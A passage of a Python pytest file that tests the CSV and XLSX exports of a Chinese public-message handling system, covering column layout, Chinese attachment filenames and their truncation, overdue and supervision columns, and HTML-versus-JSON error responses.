    (about 8 characters): the titles, 主办单位 and 「超期天数 (工作日)」 were cut off by the next cell, and
    the headings scrolled away with the rows. Each column is now as wide as its heading and the values
    it holds (within reason), and the heading row stays in view."""
    sup = login(personas["supervisor"])
    response = sup.get("/stats/export/messages.xlsx", {"region": "620100", "measure": "overdue"})
    ws = load_workbook(io.BytesIO(response.content)).active
    rows = list(ws.iter_rows(values_only=True))
    assert len(rows) > 1
    header = rows[0]
    widths = [ws.column_dimensions[cell.column_letter].width for cell in ws[1]]
    for n, width in enumerate(widths):
        # in GBK a Chinese character is two bytes, as it is two columns wide
        needed = max(len(str(row[n] or "").encode("gbk", "replace")) for row in rows)
        assert width >= min(needed, 60), (header[n], width, needed)
    assert ws.freeze_panes == "A2"
    # the statistics tables' workbooks too
    wb = load_workbook(io.BytesIO(sup.get("/stats/export/table.xlsx", {"region": "620100"}).content))
    table = wb["按区划"]
    assert table.column_dimensions["A"].width >= 4 and table.freeze_panes == "A2"


def _saved_as(response) -> str:
    """The name a browser saves an attachment under (RFC 6266: ``filename*`` before ``filename``)."""
    from urllib.parse import unquote

    header = response["Content-Disposition"]
    encoded = re.search(r"filename\*=utf-8''([^;]+)", header, re.I)
    return unquote(encoded.group(1)) if encoded else re.search(r'filename="([^"]+)"', header).group(1)


def test_an_export_is_saved_under_a_chinese_name_saying_what_it_lists(login, personas, cases):
    """QA walk 2026-12-06: the overdue list downloaded as 「messages-202612061346.xlsx」, its sheet 「留言」, the
    one with contact details 「messages-…-personal.csv」, the dashboard's tables 「stats-region-….xlsx」: a
    supervisor forwarding a few to the districts could not tell them apart by name."""
    sup = login(personas["supervisor"])
    late = sup.get("/stats/export/messages.xlsx", {"region": "620100", "measure": "overdue"})
    assert re.fullmatch(r"超期未答复-兰州市-全部-截至\d{12}\.xlsx", _saved_as(late)), _saved_as(late)
    assert load_workbook(io.BytesIO(late.content)).sheetnames == ["超期未答复", "说明"]
    personal = sup.get("/stats/export/messages.csv", {"region": "620100", "measure": "overdue", "personal": "1"})
    assert re.fullmatch(r"超期未答复-兰州市-全部-截至\d{12}-含联系方式\.csv", _saved_as(personal)), _saved_as(personal)
    replied = sup.get("/stats/export/messages.csv", {"region": "620100", "measure": "replied"})
    assert re.fullmatch(r"已答复留言-兰州市-全部-截至\d{12}\.csv", _saved_as(replied)), _saved_as(replied)
    table = sup.get("/stats/export/table.xlsx", {"region": "620100", "by": "unit"})
    assert re.fullmatch(r"统计-按办理单位-兰州市-全部-截至\d{12}\.xlsx", _saved_as(table)), _saved_as(table)


def test_the_inbox_and_campaign_reports_are_saved_under_chinese_names(login, personas, cases, client):
    """QA walk 2026-12-06 (second): the statistics exports had Chinese names, but 本单位待办's 导出 still saved
    「inbox-todo-202612061346.csv」 and a campaign's report 「campaign-wei-qunzhong.xlsx」."""
    officer = login(personas["officer"])
    todo = officer.get("/staff/export.csv")
    assert re.fullmatch(r"本单位待办-\d{12}\.csv", _saved_as(todo)), _saved_as(todo)
    late = officer.get("/staff/export.xlsx", {"tab": "overdue"})
    assert re.fullmatch(r"本单位待办-已超期-\d{12}\.xlsx", _saved_as(late)), _saved_as(late)
    today = timezone.localdate()
    Campaign.objects.create(slug="wei-qunzhong", name="我为群众办实事", start=today - dt.timedelta(days=30),
                            end=today + dt.timedelta(days=10), is_public=True)
    for fmt in ("csv", "xlsx"):
        report = client.get(f"/stats/campaigns/wei-qunzhong/report.{fmt}")
        assert report.status_code == 200
        assert _saved_as(report) == f"征集活动-我为群众办实事.{fmt}", _saved_as(report)


@pytest.mark.parametrize(("accept", "dest"), [
    ("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", None),
    ("*/*", "document"),  # a tab opened on the link by a browser that asks for anything: a page too
    ("*/*", None), ("application/json", None)])
def test_a_bad_measure_reads_as_a_page_to_a_browser_and_as_json_to_a_program(client, cases, accept, dest):
    """QA walk 2026-12-06 reported raw JSON for /stats/export/messages.csv?measure=bogus in a browser: a browser's
    page (its Accept names text/html, or Sec-Fetch-Dest says a document) gets the statistics' 「无法显示」 page,
    400; a program (*/*, JSON) the JSON error."""
    headers = {"HTTP_ACCEPT": accept, **({"HTTP_SEC_FETCH_DEST": dest} if dest else {})}
    response = client.get("/stats/export/messages.csv", {"measure": "bogus"}, **headers)
    assert response.status_code == 400
    if accept.startswith("text/html") or dest:
        assert response["Content-Type"].startswith("text/html") and "无法显示" in response.content.decode()
        assert "不支持的统计项: bogus" in response.content.decode()
    else:
        assert response.json() == {"error": "不支持的统计项: bogus"}


def test_an_overdue_export_says_under_one_working_day_as_its_list_does(login, personas, cases, capsys):
    """Phone walk 2026-12-06: a case whose deadline passed earlier today read 「不足 1 个工作日」 on the overdue
    list, and 「0」 in its export's 超期天数 — in a list of overdue cases, a leader read it as not late. The
    number stays, for sorting and filtering, and a column 超期 beside it says what the page says."""
    from minsheng.stats.models import OpenCase

    m = cases["overdue"]
    today = timezone.localtime().replace(hour=0, minute=0, second=1, microsecond=0)
    Message.objects.filter(pk=m.pk).update(due_at=today)
    OpenCase.objects.filter(message=m).update(due_at=today)
    sup = login(personas["supervisor"])
    page = sup.get("/stats/overdue/", {"region": "620100"}).content.decode()
    shown = re.search(rf"{m.public_id}</div></td>\s*<td data-label=\"超期天数\"[^>]*>(.*?)</td>", page, re.S)
    assert re.sub(r"<[^>]+>", "", shown.group(1)) == "不足 1 个工作日"

    rows = _csv(sup.get("/stats/export/messages.csv", {"region": "620100", "measure": "overdue"}))
    header = rows[0]
    days, words = header.index("超期天数 (工作日)"), header.index("超期")
    assert words == days + 1
    by_id = {r[0]: r for r in rows[1:]}
    assert by_id[m.public_id][days] == "0" and by_id[m.public_id][words] == "不足 1 个工作日"
    for row in rows[1:]:  # the others as the page says them too
        assert row[words] == ("不足 1 个工作日" if row[days] == "0" else f"{row[days]} 个工作日")
    assert any(row[days] not in ("", "0") for row in rows[1:])

    ws = load_workbook(io.BytesIO(sup.get("/stats/export/messages.xlsx",
                                          {"region": "620100", "measure": "overdue"}).content)).active
    sheet = list(ws.iter_rows(values_only=True))
    assert list(sheet[0]) == header
    xlsx = {r[0]: r for r in sheet[1:]}
    assert xlsx[m.public_id][days] == 0 and xlsx[m.public_id][words] == "不足 1 个工作日"
    assert all(isinstance(r[days], int) for r in sheet[1:])  # a number a spreadsheet sorts and filters

    call_command("export_stats", "messages", "--measure", "overdue", "--region", "620100")
    out = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert out[0] == header and {r[0]: r[words] for r in out[1:]}[m.public_id] == "不足 1 个工作日"


def test_an_overdue_export_says_which_cases_are_already_supervised_as_its_list_does(login, personas, cases, capsys):
    """Supervisor walk 2026-12-06: /stats/overdue/ says 已督办 or 未督办 of each late case; its export had no
    such column, and a supervisor sending the file to the units on Monday could not tell which cases had been
    pressed already. The export says it as the page does, in a column 督办 after 超期; with contact details,
    from the command and in the XLSX too."""
    m = cases["overdue"]
    sup = login(personas["supervisor"])
    actions.do_supervise(personas["supervisor"], m, "请于三个工作日内答复")
    page = sup.get("/stats/overdue/", {"region": "620100"}).content.decode()
    shown = dict(re.findall(r'<div class="muted small">(\d+)</div></td>.*?<td data-label="督办">(.*?)</td>', page, re.S))
    # the words, without the link to the case's 督办 form (「督办 →」, since 2026-12-07)
    shown = {pid: re.sub(r"<[^>]+>", "", re.sub(r'<a [^>]*#supervise">.*?</a>', "", cell)).strip()
             for pid, cell in shown.items()}
    assert shown[m.public_id].startswith("已督办 1 次 (最近 ") and "未督办" in shown.values()
    # the export's 督办 says the word; how many times and when last its 督办次数 and 最近督办时间 (2026-12-07)
    shown = {pid: words.split(" ")[0] for pid, words in shown.items()}

    for personal in ({}, {"personal": "1"}):
        rows = _csv(sup.get("/stats/export/messages.csv", {"region": "620100", "measure": "overdue", **personal}))
        header = rows[0]
        assert header.index("督办") == header.index("超期") + 1
        assert {r[0]: r[header.index("督办")] for r in rows[1:]} == shown
    ws = load_workbook(io.BytesIO(sup.get("/stats/export/messages.xlsx",
                                          {"region": "620100", "measure": "overdue"}).content)).active
    sheet = list(ws.iter_rows(values_only=True))
    column = sheet[0].index("督办")
    assert {r[0]: r[column] for r in sheet[1:]} == shown
    call_command("export_stats", "messages", "--measure", "overdue", "--region", "620100")
    out = data_rows(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert {r[0]: r[out[0].index("督办")] for r in out[1:]} == shown
    # the other lists keep their columns
    assert "督办" not in _csv(sup.get("/stats/export/messages.csv", {"region": "620100"}))[0]


def test_an_exports_name_says_its_region_office_unit_period_and_minute(login, personas, cases, directory):
    """Supervisor walk 2026-12-06: 「超期未答复-202612061954.csv」 and 「统计-按区划-20261206.xlsx」 named no region,
    留言对象, unit or period; two months' reports downloaded under one name. The name says them now, briefly:
    what it lists, 区划, 留言对象 and unit when chosen, the period (or 全部) and 统计截至's minute, as its 说明 says it;
    a long name cut to 12 characters with 「…」, nothing a file system refuses; an ASCII name beside it."""
    from minsheng.directory.models import Unit

    sup = login(personas["supervisor"])
    late = sup.get("/stats/export/messages.xlsx", {"region": "620100", "measure": "overdue",
                                                   "date_from": "2026-11-01", "date_to": "2026-11-30"})
    note = dict(load_workbook(io.BytesIO(late.content))["说明"].iter_rows(values_only=True))
    minute = re.sub(r"\D", "", note["统计截至"])
    assert _saved_as(late) == f"超期未答复-兰州市-20261101至20261130-截至{minute}.xlsx"
    october = sup.get("/stats/export/messages.csv", {"region": "620100", "measure": "overdue",
                                                     "date_from": "2026-10-01", "date_to": "2026-10-31"})
    assert "-20261001至20261031-" in _saved_as(october)
    header = late["Content-Disposition"]
    assert re.fullmatch(r"attachment; filename=\"overdue-620100-20261101-20261130-\d{12}\.xlsx\"; "
                        r"filename\*=UTF-8''[A-Za-z0-9%._~-]+", header), header
    office = sup.get("/stats/export/messages.csv", {"region": "620102", "own": "1", "measure": "overdue",
                                                    "addressee": directory["mayor"].pk, "personal": "1"})
    assert re.fullmatch(r"超期未答复-城关区本级-兰州市市长-全部-截至\d{12}-含联系方式\.csv", _saved_as(office)), _saved_as(office)
    long = Unit.objects.create(name='兰州市/七里河区:"住房"和城乡建设管理服务中心', region=directory["lanzhou"])
    table = sup.get("/stats/export/table.xlsx", {"region": "620100", "by": "unit", "unit": long.pk})
    note = dict(load_workbook(io.BytesIO(table.content))["说明"].iter_rows(values_only=True))
    minute = re.sub(r"\D", "", note["统计截至"])
    assert _saved_as(table) == f"统计-按办理单位-兰州市-兰州市_七里河区__住…-全部-截至{minute}.xlsx"
    assert not re.search(r'[\\/:*?"<>|]', _saved_as(table))
    whole = sup.get("/stats/export/table.csv", {"region": "620100"})
    assert re.fullmatch(r"统计-按区划-兰州市-全部-截至\d{12}\.csv", _saved_as(whole)), _saved_as(whole)


def test_a_campaigns_report_with_a_long_name_is_saved_under_a_name_a_file_system_takes(client, cases):
    """Review of 2026-12-06: a campaign's report was saved as 「征集活动-<its whole name>」: a name of 100 characters
    (the field's limit) is 300 bytes in UTF-8, and no file system takes more than 255 — a browser cut it where it
    chose, ``curl -OJ`` refused to save it. Its name is cut as the statistics exports' region names are (「…」)."""
    today = timezone.localdate()
    name = "关于开展" + "我为群众办实事" * 13 + "活动"
    Campaign.objects.create(slug="long-one", name=name[:100], start=today - dt.timedelta(days=30),
                            end=today + dt.timedelta(days=10), is_public=True)
    for fmt in ("csv", "xlsx"):
        saved = _saved_as(client.get(f"/stats/campaigns/long-one/report.{fmt}"))
        assert len(saved.encode()) <= 255, len(saved.encode())
        assert saved.startswith("征集活动-关于开展我为群众办实事") and saved.endswith(f"….{fmt}"), saved


def test_an_own_level_export_of_a_region_with_a_long_name_still_says_own_level(login, personas, cases):
    """Review of 2026-12-06: 「本级」 was added before the region's name was cut to 12 characters, so a county of a long
    name (积石山保安族东乡族撒拉族自治县, 15) lost it: the file of its own cases was named as the whole county's."""
    from minsheng.directory.models import Region

    Region.objects.filter(code="620102").update(name="积石山保安族东乡族撒拉族自治县")
    sup = login(personas["supervisor"])
    own = sup.get("/stats/export/messages.csv", {"region": "620102", "own": "1", "measure": "overdue"})
    assert re.fullmatch(r"超期未答复-积石山保安族东乡族撒拉…本级-全部-截至\d{12}\.csv", _saved_as(own)), _saved_as(own)
    whole = sup.get("/stats/export/messages.csv", {"region": "620102", "measure": "overdue"})
    assert re.fullmatch(r"超期未答复-积石山保安族东乡族撒拉…-全部-截至\d{12}\.csv", _saved_as(whole)), _saved_as(whole)
